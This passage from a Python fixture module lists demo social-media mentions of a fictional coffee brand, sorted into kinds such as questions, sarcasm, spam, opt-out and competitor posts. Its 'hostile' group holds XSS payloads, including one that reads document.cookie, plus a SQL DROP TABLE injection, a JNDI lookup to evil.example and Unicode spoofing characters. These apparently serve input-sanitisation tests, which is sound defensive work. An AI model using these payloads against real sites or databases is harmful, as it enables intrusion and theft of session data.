        "Bo Lindqvist",
        271,
        "@NorthwindCoffee do you sell whole beans in store or only online?",
    ),
    _post(
        "question",
        "hazelnut_hope",
        "Hope Chandler",
        1440,
        "@NorthwindCoffee any chance of bringing back the hazelnut mocha?",
    ),
    _post(
        "question",
        "conference_cole",
        "Cole Harrington",
        3050,
        "@NorthwindCoffee where's the closest store to the convention center?",
    ),
    _post("question", "london_leo", "Leo Whitmore", 860, "@NorthwindCoffee does the app work in the UK?"),
    _post("question", *DEVON, "@NorthwindCoffee is there a public API for store hours? Building a little side project"),
    _post(
        "question",
        "pause_please_pam",
        "Pamela Ross",
        122,
        "@NorthwindCoffee can I pause my subscription for a month instead of cancelling?",
    ),
    _post("question", "anchorage_ann", "Ann Kuzmich", 205, "@NorthwindCoffee how long does shipping to Alaska take?"),
    _post("question", "gate_b12", "Travis Young", 39, "@NorthwindCoffee is there wifi at the airport store?"),
    _post("question", *GUS, "@NorthwindCoffee why is there a fee for oat milk?"),
    _post("question", "vegan_vic", "Victoria Lane", 3390, "@NorthwindCoffee is the pumpkin loaf vegan?"),
    _post(
        "question",
        "fog_fan_fay",
        "Faye Donnelly",
        472,
        "@NorthwindCoffee what's in the 'Northwind Fog'? Earl grey plus what?",
    ),
    _post("question", *JAS, "@NorthwindCoffee who do I contact about a staff complaint? Your DMs seem closed"),
    _post(
        "question",
        "byoc_bella",
        "Isabella Grant",
        533,
        "@NorthwindCoffee quick q: do you still do the discount if I bring my own cup?",
    ),
    _post(
        "question",
        "label_created_lee",
        "Lee Anderson",
        66,
        "@NorthwindCoffee where is my order?? tracking has said 'label created' for 6 days",
    ),
    _post(
        "question",
        "stadium_stu",
        "Stuart Bell",
        1880,
        "does anyone know if Northwind Coffee has a store near the stadium?",
        via="keyword",
    ),
    _post(
        "question",
        "thanksgiving_tara",
        "Tara Quinlan",
        745,
        "Is Northwind Coffee open on Thanksgiving? asking for my sanity",
        via="keyword",
    ),
    _post(
        "question",
        "oat_or_not",
        "Nathan Pryce",
        301,
        "Does northwind do oat milk for free or is it extra?",
        via="keyword",
    ),
    _post(
        "question",
        "online_olga",
        "Olga Sokolova",
        1120,
        "Northwind Coffee gift cards: can you use them online?",
        via="keyword",
    ),
    _post(
        "question", "riverside_rick", "Rick Alvarez", 84, "Will this be available at the Riverside store?", via="reply"
    ),
    _post("question", "dairy_free_dara", "Dara Mahoney", 1630, "Is it dairy-free?", via="reply"),
    _post("question", "promo_pat", "Patrick Lowe", 212, "How long is the promo running?", via="reply"),
    _post("question", "montreal_mathieu", "Mathieu Gagnon", 940, "Does this ship to Canada?", via="reply"),
    _post("question", "plant_power_pia", "Pia Andersson", 3010, "Any vegan version?", via="reply"),
    _thread(
        "question",
        "budget_brewer",
        "budget_brewer",
        77,
        "Northwind Coffee subscription vs buying bags in store: which is cheaper per ounce? Trying to "
        "budget. Does the subscription discount stack with loyalty points?",
    ),
    _thread(
        "question",
        "remote_raj",
        "remote_raj",
        305,
        "Does anyone know if the Northwind Coffee on King St has outlets and decent wifi? Need somewhere "
        "to work for a few hours Saturday.",
    ),
    _thread(
        "question",
        "maple_leaf_latte",
        "maple_leaf_latte",
        19,
        "Has anyone gotten a Northwind order shipped to Canada? Their site says 'coming soon' but a friend "
        "in Toronto claims she got one.",
    ),
    _thread(
        "question",
        "aeropress_andy",
        "aeropress_andy",
        148,
        "What grind setting do you use for Northwind's Harbor Blend in an Aeropress? Mine keeps coming out sour.",
    ),
)

_SARCASM: tuple[DemoMention, ...] = (
    _post(
        "sarcasm",
        "patient_paige",
        "Paige Whitman",
        1330,
        "love waiting 40 minutes for a latte, great job @NorthwindCoffee",
    ),
    _post(
        "sarcasm",
        "double_dip_doug",
        "Doug Ferris",
        218,
        "thanks for charging me twice, really appreciate it 🙃 @NorthwindCoffee",
    ),
    _post(
        "sarcasm",
        "three_day_theo",
        "Theo Marsh",
        904,
        "wow amazing service @NorthwindCoffee, my order only took 3 days",
    ),
    _post("sarcasm", *GUS, "Oh good, @NorthwindCoffee spelled my name 'Guts' again. Love that for me."),
    _post(
        "sarcasm",
        "icy_ivy",
        "Ivy Chambers",
        2760,
        "@NorthwindCoffee nothing says 'premium coffee' like a cup that's 40% ice",
    ),
    _post(
        "sarcasm",
        "zen_zach",
        "Zach Levin",
        511,
        "Shoutout @NorthwindCoffee for teaching me patience. 55 minutes for a drip coffee 🧘",
    ),
    _post(
        "sarcasm", "onhold_olive", "Olive Barnes", 73, "@NorthwindCoffee 10/10 would get put on hold for 3 hours again"
    ),
    _post(
        "sarcasm",
        "feature_fred",
        "Fred Yamamoto",
        4410,
        "So glad the @NorthwindCoffee app update removed the one feature I used. Innovation!",
    ),
    _post(
        "sarcasm",
        "oatless_oscar",
        "Oscar Lindberg",
        690,
        "@NorthwindCoffee truly inspiring how you manage to be out of oat milk every single day",
    ),
    _post(
        "sarcasm",
        "refund_rita",
        "Rita Kowalczyk",
        1805,
        "Incredible how @NorthwindCoffee can take my money in 2 seconds but refunds take 2 months",
    ),
    _post(
        "sarcasm",
        "room_temp_remy",
        "Rémy Girard",
        366,
        "@NorthwindCoffee my 'hot' chocolate arrived at a refreshing room temperature. Innovative",
    ),
    _post(
        "sarcasm",
        "neighborly_ned",
        "Ned Harrison",
        129,
        "Cool cool cool, @NorthwindCoffee delivered my order to my neighbor. Hope they enjoy it",
    ),
    _post("sarcasm", *TOM, "@NorthwindCoffee the hold music is so good I've now heard it 46 times. Masterpiece"),
    _post(
        "sarcasm",
        "ticket_tina",
        "Tina Marsh",
        2040,
        "Great news everyone, the @NorthwindCoffee chatbot resolved my issue by closing the ticket ✨",
    ),
    _post(
        "sarcasm",
        "seven_dollar_sy",
        "Sylvia Brandt",
        880,
        "@NorthwindCoffee Oh I LOVE paying $7 for burnt milk, please never change",
    ),
    _post(
        "sarcasm",
        "spiritual_sean",
        "Sean Gallagher",
        3330,
        "Northwind Coffee really said 'your order is on the way' and meant spiritually on the way",
        via="keyword",
    ),
    _post(
        "sarcasm",
        "flawless_flo",
        "Florence Ito",
        1210,
        "Another flawless Northwind morning: wrong drink, wrong name, right price (too high)",
        via="keyword",
    ),
    _post(
        "sarcasm",
        "still_waiting_will",
        "William Drake",
        95,
        "Can't wait to try it! Assuming my order from last month ever shows up 🙂",
        via="reply",
    ),
    _post(
        "sarcasm",
        "flavor_fix_fern",
        "Fern Acosta",
        610,
        "Wow a new flavor, that'll definitely fix the app crashing",
        via="reply",
    ),
    _post(
        "sarcasm",
        "fresh_roast_ron",
        "Ronan Keane",
        2750,
        "Yeah sure @NorthwindCoffee, 'fresh roasted' beans from... *checks bag*... last spring. Fresh indeed",
    ),
    _post(
        "sarcasm",
        "surprise_sara",
        "Sara Lindholm",
        430,
        "@NorthwindCoffee love the new 'surprise me' feature where you hand me a random drink instead of my order",
    ),
    _post(
        "sarcasm",
        "detour_dmitri",
        "Dmitri Volkov",
        188,
        "thanks @NorthwindCoffee, really needed a 20 minute detour to find out the store closed early 😊",
    ),
    _post("sarcasm", *DEVON, "Love how the @NorthwindCoffee app keeps me humble by crashing right at checkout"),
    _post(
        "sarcasm",
        "workout_wendy",
        "Wendy Ochoa",
        5120,
        "Big thanks to @NorthwindCoffee for the free workout: walked to 3 stores looking for one with milk 💪",
    ),
    _thread(
        "sarcasm",
        *BEANS42,
        "Northwind support finally replied... to ask if I'd tried turning the subscription off and on "
        "again. Peak customer care, truly.",
    ),
)

_OTHER: tuple[DemoMention, ...] = (
    _post(
        "other", "thesis_tara", "Tara Mendez", 240, "working on my thesis at @NorthwindCoffee, send help (and espresso)"
    ),
    _post("other", "sprint_sam", "Samir Haddad", 1470, "at @NorthwindCoffee with the team, sprint planning day"),
    _post(
        "other",
        "metro_daily",
        "Metro Daily News",
        312000,
        "Local news: @NorthwindCoffee to open a roastery in the old mill building next spring",
    ),
    _post(
        "other",
        "cleanup_crew",
        "Green Streets Collective",
        8900,
        "@NorthwindCoffee and the parks dept are hosting a river cleanup Saturday, anyone going?",
    ),
    _post("other", "busy_bri", "Bri Holloway", 76, "meeting Jen at @NorthwindCoffee at 3, then the library"),
    _post(
        "other",
        "pod_people",
        "The Pod People Podcast",
        23400,
        "Ep 42 recorded at @NorthwindCoffee, sorry about the espresso machine noise",
    ),
    _post(
        "other",
        "run_city",
        "City Marathon",
        45800,
        "Northwind Coffee is the new sponsor of the city marathon, per today's press release",
        via="keyword",
    ),
    _post(
        "other",
        "truck_spotter",
        "Alan Briggs",
        133,
        "Saw a Northwind Coffee truck parked outside the stadium today",
        via="keyword",
    ),
    _post(
        "other",
        "pta_paula",
        "Paula Jiménez",
        602,
        "my kid's school fundraiser is selling Northwind Coffee gift cards this month",
        via="keyword",
    ),
    _post(
        "other",
        "biz_wire_bot",
        "Business Wire Digest",
        150200,
        "Northwind Coffee posts Q3 results: 14 new stores, revenue up 9%",
        via="keyword",
    ),
    _post("other", "first_date_fred", "Freddie Okafor", 98, "first date at @NorthwindCoffee, wish me luck"),
    _post("other", "sketchy_sally", "Sally Nakamura", 2210, "sketching people at @NorthwindCoffee this afternoon ✏️"),
    _post("other", "cat_spotter", "Ken Adler", 55, "lol the cat in the background of this photo", via="reply"),
    _post("other", "pine_st_paul", "Paul Varga", 360, "is this the Pine St store? looks different", via="reply"),
    _post("other", "tag_your_sis", "Monica Reyes", 1120, "tagging my sister, she'll want to see this", via="reply"),
    _post("other", "just_hi_hugh", "Hugh", 3, "@NorthwindCoffee hi"),
    _post(
        "other",
        "yellow_raincoat",
        "Gareth Pugh",
        211,
        "Anyone else in line at @NorthwindCoffee Elm St right now? Wave if you see a guy in a yellow raincoat",
    ),
    _post("other", *SEUN, "at @NorthwindCoffee Riverside again, this is basically my office now"),
    _thread(
        "other",
        "pdx_careers_ann",
        "pdx_careers_ann",
        92,
        "Northwind Coffee is hiring seasonal roasters at the Portland plant, per their careers page. "
        "Figured someone here might be interested.",
    ),
    _thread(
        "other",
        "history_nerd_88",
        "history_nerd_88",
        410,
        "TIL Northwind Coffee started in 1994 as a single cart outside the ferry terminal.",
    ),
    _thread(
        "other",
        "saturday_market_sue",
        "saturday_market_sue",
        27,
        "Saw a Northwind Coffee pop-up at the farmers market this weekend, they had a cupping table going.",
    ),
)

_SPAM: tuple[DemoMention, ...] = (
    _post(
        "spam",
        "fol10wback_now",
        "Follow Back 100%",
        3,
        "@NorthwindCoffee Follow back! free followers 👉 https://bit.ly/x",
    ),
    _post(
        "spam",
        "nw_coin_drop",
        "NWCOIN Official 🚀",
        17,
        "@NorthwindCoffee 🚀 $NWCOIN giveaway!! Send 0.1 ETH, receive 1 ETH back 💰 https://bit.ly/nw-give",
    ),
    _post("spam", "promo_king_88", "Promo King", 250, "@NorthwindCoffee DM for promo. 50k impressions guaranteed"),
    _post(
        "spam", "work_from_home_jen", "Jen | $500/day", 9, "@NorthwindCoffee earn $500/day from home, link in bio!!!"
    ),
    _post(
        "spam",
        "glowup_collab",
        "Glow Up Collabs",
        44,
        "@NorthwindCoffee Hey dear, love your page! Collab? DM our main account 💅",
    ),
    _post(
        "spam",
        "fastfollows24",
        "Fast Follows",
        1,
        "@NorthwindCoffee get 10,000 followers in 24h https://tinyurl.com/fastfollows123",
    ),
    _post(
        "spam",
        "reward_center_nw",
        "Reward Center",
        0,
        "@NorthwindCoffee 🎁 You've been selected for a $1000 gift card! Claim: https://bit.ly/claim-nw-card",
    ),
    _post(
        "spam",
        "signals_vip",
        "Crypto Signals VIP",
        88,
        "@NorthwindCoffee crypto signals 95% accuracy, join telegram t.me/pumpsignals_vip",
    ),
    _post("spam", "acct_shop", "Accounts 4 Sale", 5, "@NorthwindCoffee @BeanCo cheap verified accounts for sale, DM"),
    _post(
        "spam",
        "seo_expert_pro",
        "SEO Expert",
        31,
        "@NorthwindCoffee Hello sir, we offer SEO services, rank your website #1 on Google guaranteed",
    ),
    _post(
        "spam",
        "coupon_codes_daily",
        "Coupon Codes Daily",
        140,
        "Northwind Coffee Coupon Code 2025 100% WORKING free drinks FOREVER 👉 https://bit.ly/nwfree",
        via="keyword",
    ),
    _post("spam", "check_my_profile", "🔥🔥🔥", 2, "🔥🔥 check my profile 🔥🔥", via="reply"),
    _post(
        "spam",
        "forex_testimony",
        "Grace Blessed",
        12,
        "Great post! I make $8,000 a month trading forex with Mrs. Linda, contact her now",
        via="reply",
    ),
    _post(
        "spam",
        "cheap_likes_4u",
        "Cheap Likes",
        0,
        "@NorthwindCoffee buy followers likes views, cheapest price https://bit.ly/x",
    ),
    _post("spam", "new_here_xo", "xo", 6, "@NorthwindCoffee hey 😘 new here, check out my page https://bit.ly/x"),
)

_OWN: tuple[DemoMention, ...] = (
    _post(
        "own",
        *BRAND,
        "New at Northwind Coffee: the Maple Oat Latte is back for fall 🍁 In all stores today.",
        via="keyword",
    ),
    _post(
        "own",
        *BRAND,
        "Our Lakeview store is closed today for repairs. Sorry for the trouble! Nearest Northwind: Riverside.",
        via="keyword",
    ),
    _post(
        "own",
        *BRAND,
        "We know some Northwind app users are seeing crashes at checkout. A fix is rolling out now. Thank you "
        "for your patience.",
        via="keyword",
    ),
    _post(
        "own",
        *BRAND,
        "Happy National Coffee Day! Free small drip with any pastry at Northwind Coffee today ☕",
        via="keyword",
    ),
    _post("own", *BRAND, "Northwind Coffee is coming to Canada! Our Toronto store opens March 14. 🇨🇦", via="keyword"),
    _post(
        "own",
        *BRAND,
        "Meet Marisol, our Pine St barista of the year 🏆 Thank you for making every Northwind morning better.",
        via="keyword",
    ),
)

_NON_ENGLISH: tuple[DemoMention, ...] = (
    _post(
        "non_english",
        "carlos_hdz",
        "Carlos Hernández",
        1500,
        "@NorthwindCoffee mi pedido lleva dos semanas sin llegar. ¿Pueden ayudarme?",
        lang="es",
    ),
    _post(
        "non_english",
        "valeria_sol",
        "Valeria Sol",
        4300,
        "@NorthwindCoffee ¡el mejor café con leche de la ciudad! 😍",
        lang="es",
    ),
    _post(
        "non_english",
        "diego_ramos",
        "Diego Ramos",
        260,
        "@NorthwindCoffee ¿tienen leche de avena en la tienda del centro?",
        lang="es",
    ),
    _post(
        "non_english",
        "lupita_g",
        "Guadalupe Torres",
        712,
        "Me cobraron dos veces en Northwind Coffee y nadie responde los correos",
        via="keyword",
        lang="es",
    ),
    _post(
        "non_english",
        "camille_dupont",
        "Camille Dupont",
        2040,
        "@NorthwindCoffee ma commande n'est jamais arrivée et le service client ne répond pas.",
        lang="fr",
    ),
    _post(
        "non_english",
        "julien_mrt",
        "Julien Martin",
        488,
        "@NorthwindCoffee merci pour l'accueil ce matin, le cappuccino était parfait ☕",
        lang="fr",
    ),
    _post(
        "non_english",
        "qc_genevieve",
        "Geneviève Tremblay",
        1310,
        "@NorthwindCoffee est-ce que vous livrez au Québec ?",
        lang="fr",
    ),
    _post(
        "non_english",
        "jonas_k",
        "Jonas Krüger",
        930,
        "@NorthwindCoffee Meine Bestellung kam kalt an und der Deckel fehlte. Sehr enttäuschend.",
        lang="de",
    ),
    _post(
        "non_english",
        "sabine_w",
        "Sabine Wagner",
        3570,
        "@NorthwindCoffee Bester Kaffee der Stadt, danke an das Team in der Hafenstraße!",
        lang="de",
    ),
    _post("non_english", "tobi_vegan", "Tobias Schmitt", 640, "@NorthwindCoffee Habt ihr vegane Optionen?", lang="de"),
    _post(
        "non_english",
        "joao_pedro",
        "João Pedro Alves",
        1120,
        "@NorthwindCoffee meu pedido veio errado, pedi latte e recebi cappuccino",
        lang="pt",
    ),
    _post(
        "non_english",
        "bia_cafe",
        "Beatriz Lima",
        5600,
        "@NorthwindCoffee amo esse café! Atendimento sempre excelente 🙌",
        lang="pt",
    ),
    _post("non_english", "rafa_sp", "Rafael Souza", 204, "@NorthwindCoffee vocês entregam no Brasil?", lang="pt"),
    _post(
        "non_english",
        "yuki_sato",
        "佐藤ゆき",
        870,
        "@NorthwindCoffee アプリが起動しません。注文できなくて困っています。",
        lang="ja",
    ),
    _post("non_english", *AIKO, "@NorthwindCoffee 新しいオーツミルクラテ、とても美味しかったです！☕", lang="ja"),
    _post("non_english", "kenji_w", "渡辺健二", 1430, "@NorthwindCoffee 日曜日は何時から開いていますか？", lang="ja"),
    _post("non_english", "omar_khaled", "عمر خالد", 2300, "@NorthwindCoffee طلبي لم يصل بعد، أرجو المساعدة", lang="ar"),
    _post("non_english", *NADIA, "@NorthwindCoffee أفضل قهوة جربتها، شكراً لكم ☕", lang="ar"),
    _post("non_english", "layla_m", "ليلى منصور", 615, "@NorthwindCoffee هل لديكم خيارات نباتية؟", lang="ar"),
    _post(
        "non_english",
        "giulia_b",
        "Giulia Bianchi",
        1980,
        "@NorthwindCoffee il vostro espresso è davvero ottimo, complimenti!",
        lang="it",
    ),
    _thread(
        "non_english",
        "cafetero_bcn",
        "cafetero_bcn",
        45,
        "¿Alguien más ha tenido problemas con la suscripción de Northwind Coffee? Me siguen cobrando "
        "aunque la cancelé hace dos meses.",
        lang="es",
    ),
)

_HOSTILE: tuple[DemoMention, ...] = (
    _post("hostile", "xss_tester", "Alert Box", 7, "@NorthwindCoffee <script>alert(1)</script> my order never arrived"),
    _post(
        "hostile",
        "img_onerror",
        "Ron Error",
        14,
        "@NorthwindCoffee <img src=x onerror=alert(1)> refund please, you charged me twice",
    ),
    _post(
        "hostile",
        "js_link_larry",
        "Larry Link",
        22,
        "@NorthwindCoffee here's my receipt javascript:alert(document.cookie) still waiting on a refund",
    ),
    _post(
        "hostile",
        "unclosed_ursula",
        "Ursula Tagg",
        301,
        "@NorthwindCoffee <b><i>unclosed tags because I'm that angry, cold coffee again",
    ),
    _post(
        "hostile",
        "rtl_rick",
        "Rick \u202eesreveR",
        45,
        "@NorthwindCoffee my order \u202e!deviarra reven\u202c please help",
    ),
    _post(
        "hostile",
        "zw_zoe",
        "Zoe\u200b\u200d",
        512,
        "@NorthwindCoffee lo\u200bve the new\u200d latte\u200b\u200b\u200d so good",
    ),
    _post("hostile", "wall_of_text", "Endless Ed", 60, _LONG_RANT),
    _post("hostile", "emoji_only_em", "😡", 33, "@NorthwindCoffee 😡😡😡☕💔👎"),
    _post(
        "hostile",
        "spacey_spencer",
        "Spencer   Hale",
        18,
        "@NorthwindCoffee      \n\n\n   my    order     \t\t  is    late   \n\n\n      ",
    ),
    _post("hostile", "svg_sam", 'Sam "><b>', 9, "@NorthwindCoffee \"><svg onload=alert('x')> wrong order again"),
    _post(
        "hostile",
        "bobby_tables",
        "Robert'); DROP TABLE",
        1337,
        "@NorthwindCoffee great latte today'); DROP TABLE mentions;-- 😂",
    ),
    _post(
        "hostile",
        "template_tom",
        "{{7*7}}",
        4,
        "@NorthwindCoffee {{7*7}} ${jndi:ldap://evil.example/a} %s%s%n my app keeps crashing",
    ),
    _thread(
        "hostile",
        "markdown_mallory",
        "markdown_mallory",
        2,
        "[click me](javascript:alert(1)) Northwind Coffee lost my order **again** <iframe src=//evil.example>",
    ),
)

_OPT_OUT: tuple[DemoMention, ...] = (
    _post("opt_out", "leave_me_be", "Morgan Hale", 302, "@NorthwindCoffee stop replying to me"),
    _post("opt_out", "unsub_ulla", "Ulla Berg", 41, "@NorthwindCoffee unsubscribe"),
    _post("opt_out", "no_bots_nate", "Nate Fleming", 2290, "@NorthwindCoffee please opt me out of your bot replies"),
    _post("opt_out", *GUS, "@NorthwindCoffee I don't want automated replies. Stop tagging me."),
    _post("opt_out", "stop_sign_stella", "Stella Price", 77, "STOP", via="reply"),
    _post(
        "opt_out",
        "done_dorothy",
        "Dorothy Kim",
        530,
        "@NorthwindCoffee do not contact me again. I've said what I had to say.",
    ),
    _post(
        "opt_out",
        "canned_carl",
        "Carl Jensen",
        1410,
        "please stop @-ing me with canned responses, I'm not interested",
        via="reply",
    ),
    _post(
        "opt_out",
        "list_removal_lia",
        "Lia Novak",
        96,
        "@NorthwindCoffee remove me from whatever list your bot uses, thanks",
    ),
)

_COMPETITOR: tuple[DemoMention, ...] = (
    _post(
        "competitor",
        "switcher_sia",
        "Sia Kapoor",
        1850,
        "Switched from Northwind Coffee to BeanCo last month, honestly BeanCo's app just works",
        via="keyword",
    ),
    _post(
        "competitor",
        "brew_compare",
        "Jon Whitaker",
        640,
        "BeanCo's cold brew vs Northwind's: BeanCo is smoother, Northwind has more kick",
        via="keyword",
    ),
    _post(
        "competitor",
        "budget_bex",
        "Rebecca Hill",
        320,
        "Brewster's is cheaper but Northwind Coffee is miles better on espresso",
        via="keyword",
    ),
    _post(
        "competitor",
        *CRITIC,
        "Blind tasting: Northwind Coffee Harbor Blend vs BeanCo House vs Brewster's Classic. Results tomorrow 👀",
        via="keyword",
    ),
    _post(
        "competitor",
        "oat_math",
        "Ana Lucía Paz",
        2730,
        "BeanCo has free oat milk. Northwind charges 80c. Just saying.",
        via="keyword",
    ),
    _post(
        "competitor",
        "elm_st_watch",
        "Marty Keller",
        410,
        "Brewster's opened right across the street from the Northwind on Elm. Coffee war incoming",
        via="keyword",
    ),
    _post(
        "competitor",
        "ultimatum_uma",
        "Uma Reddy",
        188,
        "If Northwind doesn't fix their subscription mess I'm moving to Brewster's",
        via="keyword",
    ),
    _post(
        "competitor",
        "points_pro",
        "Jared Lowell",
        5410,
        "BeanCo rewards > Northwind rewards, not even close",
        via="keyword",
    ),
    _post(
        "competitor",
        "fair_judge_fatima",
        "Fatima Bello",
        1390,
        "Tried BeanCo's new oat latte, it's fine, but Northwind Coffee still does it better",
        via="keyword",
    ),
    _post(
        "competitor",
        "stopwatch_stan",
        "Stan Morales",
        77,
        "Brewster's drive-thru: 4 min. Northwind drive-thru: 22 min. Same street, same morning.",
        via="keyword",
    ),
    _thread(
        "competitor",
        "bean_spreadsheet",
        "bean_spreadsheet",
        890,
        "I tracked every bag from Northwind, BeanCo and Brewster's subscriptions for 6 months. Northwind "
        "had the freshest roast dates, BeanCo the lowest price per ounce, Brewster's the worst shipping. "
        "Spreadsheet in comments.",
    ),
    _thread(
        "competitor",
        "roastdate_rachel",
        "roastdate_rachel",
        64,
        "Brewster's just announced a subscription at $2 less than Northwind Coffee's. Anyone tried it? "
        "Worried about roast dates.",
    ),
)

DEMO_MENTIONS: tuple[DemoMention, ...] = (
    _COMPLAINTS
    + _URGENT
    + _PRAISE
    + _QUESTIONS
    + _SARCASM
    + _OTHER
    + _SPAM
    + _OWN
    + _NON_ENGLISH
    + _HOSTILE
    + _OPT_OUT
    + _COMPETITOR
)


def counts() -> dict[str, int]:
    """Kind counts of DEMO_MENTIONS (quick self-check)."""
    return dict(Counter(m.kind for m in DEMO_MENTIONS))
